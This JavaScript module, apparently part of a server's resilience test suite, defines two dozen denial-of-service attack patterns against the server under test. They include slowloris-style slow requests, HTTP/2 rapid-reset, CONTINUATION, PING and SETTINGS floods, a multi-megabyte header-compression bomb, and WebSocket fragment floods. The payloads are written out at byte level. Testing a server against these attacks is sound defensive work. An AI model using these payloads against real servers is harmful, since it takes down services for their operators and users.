// What attackers do, each with connections of its own that go on for as long as they may. An attack is
// {count(size), secure, greet(), flood(), drip(), reads}: how many connections; if they are raw TLS; the
// bytes that each begins with; bytes that follow as fast as the node takes them; bytes that follow now
// and then; and whether they read what is answered. One that is cut off comes again.
import { request } from "../http1.mjs";
import {
  ACK, CONTINUATION as MORE, DATA, END_HEADERS, END_STREAM, frame as frame2, HEADERS, PING, PREFACE,
  PRIORITY, requestFields, RST_STREAM, settings, WINDOW_UPDATE, word,
} from "../http2.mjs";
import { hello } from "../crowd/handshakes.mjs";
import { Random } from "../random.mjs";
import { CONTINUATION, frame, handshake, TEXT } from "../websocket.mjs";

const CHUNK = 32_768;
const MASK = Buffer.of(1, 2, 3, 4);
const CANCEL = word(8);
const MOST_STREAM = 2 ** 30;

function repeated(bytes) {
  return Buffer.concat(Array(Math.max(1, Math.floor(CHUNK / bytes.length))).fill(bytes));
}

// The same bytes, again and again.
function same(bytes) {
  const chunk = repeated(bytes);
  return () => () => chunk;
}

// For each connection, frames of streams that follow on each other: `of` makes those of one stream.
function eachStream(of) {
  return () => {
    let stream = -1;
    return () => {
      const frames = [];
      for (let bytes = 0; bytes < CHUNK && stream < MOST_STREAM;) {
        frames.push(of(stream += 2));
        bytes += frames.at(-1).length;
      }
      return Buffer.concat(frames);
    };
  };
}

function get(stream, path = "/4711") {
  return frame2(HEADERS, END_HEADERS | END_STREAM, stream, requestFields("GET", path));
}

const http2 = (pairs = []) => () => Buffer.concat([PREFACE, settings(pairs)]);
const webSocket = () => handshake(Buffer.alloc(16, 7));
const post = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n";
const some = ({ some: count }) => count;
const few = ({ few: count }) => count;
const many = ({ many: count }) => count;

// A head that says "this field again" ten thousand times: some 40 MB of fields.
function bomb(stream) {
  const head = requestFields("GET", "/4711");
  const kept = Buffer.concat([Buffer.of(0x40, 1, 97, 127, 0xa1, 30), Buffer.alloc(4_000, "x")]);
  return frame2(HEADERS, END_HEADERS | END_STREAM, stream,
    Buffer.concat([head, kept, Buffer.alloc(10_000, 0xbe)]));
}

export const ATTACKS = {
  silent: { count: many, greet: () => Buffer.alloc(0) },
  slowHeads: { count: some, greet: () => Buffer.from("GET /4711 HTTP/1.1\r\nHost: a\r\nX: "),
    drip: () => Buffer.from("x") },
  slowBodies: { count: some, greet: () => Buffer.from(post), drip: () => Buffer.from("1") },
  slowReaders: { count: some, greet: () => repeated(request("GET", "/doorbell.js")) },
  floodOfHeads: { count: few, reads: true, greet: () => Buffer.alloc(0),
    flood: same(request("GET", "/4711?timeout=0", { headers: { Cookie: "c".repeat(15_000) } })) },
  floodOfLists: { count: few, reads: true, greet: () => Buffer.alloc(0),
    flood: same(request("GET", `/${Array(64).fill("f".repeat(64)).join()}?timeout=0`)) },
  handshakes: { count: some, secure: true, greet: () => hello(new Random("siege")).subarray(0, 100) },
  hellos: { count: few, secure: true, once: true, greet: () => hello(new Random("siege")) },
  rapidReset: { count: few, reads: true, greet: http2(),
    flood: eachStream((stream) => Buffer.concat([get(stream), frame2(RST_STREAM, 0, stream, CANCEL)])) },
  madeYouReset: { count: few, reads: true, greet: http2(), flood: eachStream((stream) =>
    Buffer.concat([get(stream), frame2(WINDOW_UPDATE, 0, stream, word(0))])) },
  priorityOnItself: { count: few, greet: http2(), flood: eachStream((stream) =>
    frame2(PRIORITY, 0, stream, Buffer.concat([word(stream), Buffer.of(16)]))) },
  settings: { count: few, greet: http2(), flood: same(settings([[4, 65_535]])) },
  pings: { count: few, greet: http2(), flood: same(frame2(PING, 0, 0, Buffer.alloc(8))) },
  pingAnswers: { count: few, greet: http2(), flood: same(frame2(PING, ACK, 0, Buffer.alloc(8))) },
  priorities: { count: few, greet: http2(),
    flood: same(frame2(PRIORITY, 0, 3, Buffer.of(0, 0, 0, 5, 16))) },
  windows: { count: few, greet: http2(), flood: same(frame2(WINDOW_UPDATE, 0, 0, word(1))) },
  emptyData: { count: few, greet: () => Buffer.concat([http2()(),
    frame2(HEADERS, END_HEADERS, 1, requestFields("POST", "/4711"))]),
  flood: same(frame2(DATA, 0, 1)) },
  continuations: { count: few, greet: () => Buffer.concat([http2()(),
    frame2(HEADERS, END_STREAM, 1, requestFields("GET", "/4711"))]),
  flood: same(frame2(MORE, 0, 1)) },
  bombs: { count: few, greet: http2(), reads: true, flood: eachStream(bomb) },
  noWindow: { count: some, greet: () => Buffer.concat([PREFACE, settings([[4, 0]]),
    ...Array.from({ length: 100 }, (_, at) => get(2 * at + 1, "/doorbell.js"))]) },
  webSocketChurn: { count: few, reads: true, once: true, greet: () => Buffer.concat([webSocket(),
    frame(TEXT, "wait 4711 4712 4713", MASK), frame(TEXT, "forget 4711", MASK)]) },
  emptyFragments: { count: few, greet: () => Buffer.concat([webSocket(),
    frame(TEXT, "", MASK, { last: false })]), flood: same(frame(CONTINUATION, "", MASK, { last: false })) },
  tinyFrames: { count: few, greet: webSocket, flood: same(frame(TEXT, "x", MASK)) },
};

export const NAMES = Object.keys(ATTACKS);

